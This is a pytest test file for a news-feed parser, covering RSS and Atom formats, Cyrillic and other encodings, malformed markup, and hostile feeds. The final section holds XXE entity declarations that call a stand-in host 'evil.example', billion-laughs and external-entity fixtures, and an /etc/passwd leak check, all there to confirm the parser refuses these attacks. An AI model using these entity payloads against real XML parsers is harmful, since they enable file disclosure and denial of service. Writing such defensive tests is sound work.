"""parse_feed on one fixture per feed pathology (tests/fixtures/feeds/README.md lists them)."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from transforms.feed_items import ParsedFeed, parse_feed, unsafe_entity_declaration

FEEDS = Path(__file__).parent / "fixtures" / "feeds"
FEED_URL = "https://feeds.example.org/news/feed.xml"
FETCHED_AT = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)


def parse(name: str, content_type: str | None = "application/rss+xml", url: str = FEED_URL) -> ParsedFeed:
    return parse_feed((FEEDS / name).read_bytes(), url, content_type=content_type, fetched_at=FETCHED_AT)


def titles(feed: ParsedFeed) -> list[str | None]:
    return [a.title for a in feed.articles]


# --- formats ----------------------------------------------------------------------------------


def test_rss20_content_encoded_wins_over_description() -> None:
    feed = parse("rss20_basic.xml")
    assert (feed.title, feed.items_total, feed.bozo, feed.quarantined) == ("Caucasus Ledger — Politics", 2, None, [])
    first, second = feed.articles
    assert first.url == "https://ledger.example.org/politics/phone-call?id=42"  # utm_* dropped
    assert first.source == FEED_URL and first.fetched_at == FETCHED_AT
    assert first.extractor == "feed-content"
    assert first.body.startswith("Armenian Prime Minister Nikol Pashinyan")
    assert "\n\nThe Kremlin said" in first.body and "alert" not in first.body  # script dropped
    assert first.published_at == datetime(2024, 3, 12, 5, 30, tzinfo=UTC)
    assert first.flags == []
    assert second.url == "https://ledger.example.org/economy/energy-forum"  # fragment dropped
    assert second.extractor == "feed-summary"
    assert second.body == "Ministers from six countries met in Yerevan to discuss electricity trade."


def test_rss091_with_netscape_doctype() -> None:
    feed = parse("rss091_netscape.xml", content_type="text/xml")
    assert feed.bozo is None
    assert titles(feed) == ["Trade delegation leaves for Moscow", "Café owners in Gyumri welcome tourists"]
    assert all(a.published_at is None and a.flags == ["date_missing"] for a in feed.articles)


def test_rss10_rdf_with_dublin_core_dates() -> None:
    feed = parse("rss10_rdf.xml")
    assert titles(feed) == ["Lake Sevan water level rises", "New bus line connects Vanadzor and Tbilisi"]
    assert [a.published_at for a in feed.articles] == [
        datetime(2024, 4, 2, 4, 15, tzinfo=UTC),
        datetime(2024, 4, 1, tzinfo=UTC),
    ]


def test_atom_with_xml_base_and_html_titles() -> None:
    feed = parse("atom10_xml_base.xml", content_type="application/atom+xml")
    first, second = feed.articles
    assert first.url == "https://blog.example.org/newsroom/posts/border-talks"
    assert first.title == "Border talks & the new checkpoints"
    assert first.body == "Negotiators met near Ijevan.\n\nThey agreed to open two checkpoints."
    assert first.published_at == datetime(2024, 5, 2, 5, 0, tzinfo=UTC)  # published before updated
    assert second.url == "https://other.example.org/archive/2024/05/item.html"  # the entry's own xml:base
    assert second.body == "XHTML content paragraph one.\n\nParagraph two."
    assert second.extractor == "feed-content"


def test_google_alerts_links_are_unwrapped() -> None:
    feed = parse("google_alerts.xml", content_type="application/atom+xml")
    (article,) = feed.articles
    assert article.url == "https://grain.example.com/news/armenia-russia-grain?id=5"
    assert article.title == "Armenia and Russia sign grain deal"


def test_one_line_minified_feed() -> None:
    feed = parse("minified_one_line.xml")
    assert titles(feed) == ["One", "Two", "Three"]
    assert feed.articles[0].body == "First."


def test_large_feed_parses_completely_and_quickly() -> None:
    content = large_feed(items=750)
    assert len(content) > 1_600_000
    started = time.monotonic()
    feed = parse_feed(content, FEED_URL, content_type="application/rss+xml", fetched_at=FETCHED_AT)
    elapsed = time.monotonic() - started
    assert (feed.items_total, len(feed.articles), feed.bozo) == (750, 750, None)
    assert feed.articles[-1].url == "https://big.example.org/news/749"
    assert elapsed < 10, f"750-item feed took {elapsed:.1f} s"


def large_feed(items: int) -> bytes:
    """A 1.6 MB feed with `items` items of ~2 KB each (generated: not worth committing)."""
    paragraph = "<p>" + "Officials in Yerevan and Moscow discussed transit, energy prices and the border. " * 4 + "</p>"
    entries = "".join(
        f"<item><title>Story {i} about regional trade</title>"
        f"<link>https://big.example.org/news/{i}?utm_source=rss</link>"
        f'<guid isPermaLink="false">big-{i}</guid>'
        f"<pubDate>Mon, 08 Apr 2024 10:{i % 60:02d}:00 +0000</pubDate>"
        f"<description><![CDATA[{paragraph * 6}]]></description></item>\n"
        for i in range(items)
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Big</title>'
        f"<link>https://big.example.org/</link><description>d</description>\n{entries}</channel></rss>\n"
    ).encode()


# --- encodings --------------------------------------------------------------------------------

RU_TITLES = ["Пашинян и Путин обсудили ситуацию на границе", "В Ереване прошла встреча министров экономики"]


@pytest.mark.parametrize(
    ("name", "content_type", "note"),
    [
        ("cp1251_undeclared.xml", "text/xml", "no encoding declared; detected cp1251"),
        ("koi8r_undeclared.xml", None, "no encoding declared; detected koi8-r"),
        ("cp1251_declared_latin1.xml", "application/rss+xml", "declared encoding ISO-8859-1 but content is cp1251"),
    ],
)
def test_cyrillic_with_missing_or_wrong_encoding(name: str, content_type: str | None, note: str) -> None:
    feed = parse(name, content_type=content_type)
    assert feed.title == "Новости Кавказа"
    assert titles(feed) == RU_TITLES
    assert feed.articles[0].body.startswith("Премьер-министр Армении Никол Пашинян")
    assert feed.bozo == note


def test_gb2312_undeclared() -> None:
    feed = parse("gb2312_undeclared.xml", content_type="text/xml")
    assert feed.title == "高加索新闻"
    assert titles(feed) == ["亚美尼亚和俄罗斯讨论过境走廊问题"]


def test_declared_iso8859_2_beats_a_server_default_charset() -> None:
    feed = parse("iso8859_2_declared.xml", content_type="text/xml; charset=ISO-8859-1")
    assert feed.title == "Wiadomości"
    assert titles(feed) == ["Zażółć gęślą jaźń: delegacja w Erywaniu"]


def test_utf16_with_bom() -> None:
    feed = parse("utf16_bom.xml", content_type="application/xml")
    assert titles(feed) == ["Ереван — UTF-16 with a byte-order mark"]
    assert feed.bozo is None


def test_utf8_declared_as_latin1_is_read_as_utf8() -> None:
    content = (FEEDS / "rss20_basic.xml").read_bytes().replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    feed = parse_feed(content, FEED_URL, content_type="text/xml", fetched_at=FETCHED_AT)
    assert feed.title == "Caucasus Ledger — Politics"


# --- markup pathologies -----------------------------------------------------------------------


def test_html_entities_undefined_in_xml() -> None:
    feed = parse("html_entities.xml")
    assert feed.title == "Entities Daily"
    (article,) = feed.articles
    assert article.title == "Minister’s visit — Café diplomacy in Yerevan"
    assert article.body == "The minister met café owners … and left."
    assert feed.bozo is None  # rewritten to character references: the strict parser copes


def test_double_encoded_titles_and_descriptions() -> None:
    feed = parse("double_encoded.xml")
    assert feed.title == "Double & Trouble"
    (article,) = feed.articles
    assert article.title == "AT&T and the bold headline"
    assert article.body == "First paragraph & more.\n\nSecond paragraph."


def test_cdata_padded_with_whitespace() -> None:
    feed = parse("cdata_padded.xml")
    assert feed.title == "Padded Feed Title"
    (article,) = feed.articles
    assert (article.title, article.body, article.url) == (
        "Padded headline about Gyumri",
        "Body text with odd spacing.",
        "https://padded.example.org/a/1",
    )
    assert article.published_at == datetime(2024, 4, 4, 11, 0, tzinfo=UTC)


def test_whitespace_before_xml_declaration() -> None:
    feed = parse("whitespace_before_declaration.xml")
    assert (titles(feed), feed.bozo) == (["Item after leading whitespace"], None)


def test_server_warning_before_xml_declaration() -> None:
    feed = parse("junk_before_declaration.xml")
    assert titles(feed) == ["Item behind a PHP warning"]
    assert feed.bozo == "106 characters of junk before the XML"


def test_truncated_feed_keeps_what_was_recovered() -> None:
    feed = parse("truncated.xml")
    assert titles(feed)[:2] == ["First complete item", "Second complete item"]
    assert feed.items_total == 3
    assert feed.bozo is not None and "XML error at line" in feed.bozo and "3 items recovered" in feed.bozo


def test_items_without_link_guid_or_date() -> None:
    feed = parse("items_without_link_or_date.xml")
    assert feed.items_total == 7
    by_title = {a.title: a for a in feed.articles}
    assert by_title["Guid is the permalink"].url == "https://sloppy.example.org/stories/guid-only"
    undated = by_title["Undated story"]
    assert (undated.published_at, undated.flags) == (None, ["date_missing"])
    assert by_title["Relative link resolved against the feed"].url == "https://feeds.example.org/stories/relative"

    reasons = {q.input_ref: q.reason for q in feed.quarantined}
    assert all(q.stage == "parse" for q in feed.quarantined)
    assert reasons[f"{FEED_URL}#item-2"].startswith("item has no link: 'Guid is not a URL'")
    assert "guid 'story-7731' is not a URL" in reasons[f"{FEED_URL}#item-2"]
    assert reasons[f"{FEED_URL}#item-3"].startswith("item has no link: 'Nothing to link to'")
    assert "javascript:alert(1)" in reasons[f"{FEED_URL}#item-7"]
    assert "has no title and no text" in reasons["https://sloppy.example.org/stories/empty"]
    assert len(feed.articles) + len(feed.quarantined) == feed.items_total


def test_odd_dates() -> None:
    feed = parse("odd_dates.xml")
    got = {a.title: (a.published_at, a.flags) for a in feed.articles}
    assert got == {
        "Slashed date": (datetime(2020, 1, 10, tzinfo=UTC), []),
        "Long US date": (datetime(2021, 1, 29, 16, 42, tzinfo=UTC), ["date_timezone_assumed"]),
        "EST zone": (datetime(2021, 1, 29, 21, 42, tzinfo=UTC), []),
        "BST zone": (datetime(2021, 1, 29, 15, 42, tzinfo=UTC), []),
        "Two-digit year": (datetime(2021, 1, 29, 16, 42, tzinfo=UTC), []),
        "Zone only": (None, ["date_unparsed"]),
        "Unreadable date": (None, ["date_unparsed"]),
        "Dublin Core date": (datetime(2021, 1, 29, 12, 42, tzinfo=UTC), []),
        "Placeholder date": (None, ["date_implausible"]),
        "Next decade": (None, ["date_in_future"]),
    }


def test_duplicate_links_in_one_document_are_kept_once() -> None:
    content = (FEEDS / "minified_one_line.xml").read_bytes().replace(b"min.example.org/2", b"min.example.org/1")
    feed = parse_feed(content, FEED_URL, content_type=None, fetched_at=FETCHED_AT)
    assert titles(feed) == ["One", "Three"] and feed.items_total == 3


# --- not feeds, and hostile feeds -------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "bozo"),
    [
        ((FEEDS / "not_a_feed.html").read_bytes(), "an HTML page, not an RSS or Atom feed"),
        (b"", "empty document"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "JSON, not an RSS or Atom feed"),
        (b"Service temporarily unavailable", "not XML, not an RSS or Atom feed"),
        (b'<?xml version="1.0"?><catalog><book id="1"/></catalog>', "not an RSS or Atom feed (root element <catalog>)"),
    ],
)
def test_documents_that_are_not_feeds(content: bytes, bozo: str) -> None:
    feed = parse_feed(content, FEED_URL, content_type="text/html", fetched_at=FETCHED_AT)
    assert (feed.articles, feed.items_total, feed.title) == ([], 0, None)
    assert feed.bozo is not None and feed.bozo.startswith(bozo)


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("billion_laughs.xml", "XML entity 'lol1' that expands other entities (expansion bomb)"),
        ("xxe_external_entity.xml", "external XML entity 'xxe' (SYSTEM)"),
    ],
)
def test_entity_attacks_are_refused_and_quarantined(name: str, why: str) -> None:
    started = time.monotonic()
    feed = parse(name)
    assert time.monotonic() - started < 1
    assert (feed.articles, feed.items_total) == ([], 0)
    (q,) = feed.quarantined
    assert (q.input_ref, q.stage) == (FEED_URL, "parse")
    assert why in q.reason and "refused" in q.reason
    assert q.payload and "<!ENTITY" in q.payload
    assert "root:" not in repr(feed)  # nothing from /etc/passwd anywhere


def test_plain_character_entities_are_allowed() -> None:
    feed = parse("safe_character_entity.xml")
    assert (feed.title, feed.bozo) == ("Declared Entities", None)
    assert feed.articles[0].body == "© Safe Example"


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE r [<!ENTITY e PUBLIC "-//X//EN" "http://evil.example/e">]>',
        "<!DOCTYPE r [" + "".join(f'<!ENTITY e{i} "x">' for i in range(100)) + "]>",
        '<!DOCTYPE r [<!ENTITY big "' + "x" * 5000 + '">]>',
    ],
)
def test_unsafe_entity_declarations(prolog: str) -> None:
    assert unsafe_entity_declaration(f'<?xml version="1.0"?>\n{prolog}\n<rss version="2.0"/>') is not None


def test_entity_text_inside_an_item_is_not_a_declaration() -> None:
    text = (
        '<rss version="2.0"><channel><item><description>'
        '<![CDATA[<!ENTITY x SYSTEM "f">]]></description></item></channel></rss>'
    )
    assert unsafe_entity_declaration(text) is None
